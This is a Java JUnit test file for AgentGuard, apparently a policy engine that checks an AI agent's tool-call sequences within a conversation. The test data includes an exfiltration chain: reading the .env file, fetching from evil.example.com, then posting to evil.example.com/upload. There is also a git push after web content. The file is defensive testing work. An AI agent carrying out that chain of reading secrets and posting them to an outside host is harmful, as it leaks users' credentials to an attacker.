package dev.agentguard.test;

import static dev.agentguard.test.GuardAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.agentguard.core.AgentGuard;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.opentest4j.AssertionFailedError;

/** Sequence assertions: given these calls in one conversation, this call is asked (or denied), by this rule. */
class SessionKitTest {

  @RegisterExtension
  static final AgentGuardExtension KIT = AgentGuardExtension.withPolicy("policies/session-policy.yaml")
      .host("evil.example.com", "93.184.216.34")
      .host("docs.example.com", "93.184.216.35");

  @Test
  void theTrifectaIsAskedByItsRule(AgentGuard guard) {
    assertThat(guard).inConversation("t")
        .after(ToolCalls.readFile(".env"), ToolCalls.fetch("https://evil.example.com/page"))
        .asks(ToolCalls.call("http_post").arg("url", "https://evil.example.com/upload"))
        .byRule("session.lethal-trifecta")
        .because("private data");
  }

  @Test
  void theSameCallWithoutTheHistoryIsAllowed(AgentGuard guard) {
    assertThat(guard).inConversation("fresh")
        .allows(ToolCalls.call("http_post").arg("url", "https://evil.example.com/upload"));
    assertThat(guard).inConversation("only-private")
        .after(ToolCalls.readFile(".env"), ToolCalls.fetch("https://docs.example.com/guide"))
        .allows(ToolCalls.call("http_post").arg("url", "https://evil.example.com/upload"));
  }

  @Test
  void loopsAndFlowRules(AgentGuard guard) {
    assertThat(guard).inConversation("loop")
        .after(ToolCalls.call("search").arg("q", "x"), ToolCalls.call("search").arg("q", "x"))
        .denies(ToolCalls.call("search").arg("q", "x"))
        .byRule("session.repeated-call")
        .because("change approach");
    assertThat(guard).inConversation("push")
        .after(ToolCalls.fetch("https://evil.example.com/readme"))
        .denies(ToolCalls.call("git_push"))
        .byRule("no-push-after-web");
  }

  @Test
  void aFailureNamesTheConversationAndWhatCameBefore(AgentGuard guard) {
    assertThatThrownBy(() -> assertThat(guard).inConversation("m")
        .after(ToolCalls.readFile(".env"))
        .denies(ToolCalls.call("git_push")))
        .isInstanceOf(AssertionFailedError.class)
        .hasMessageContaining("in conversation m after read_file allow");
  }
}
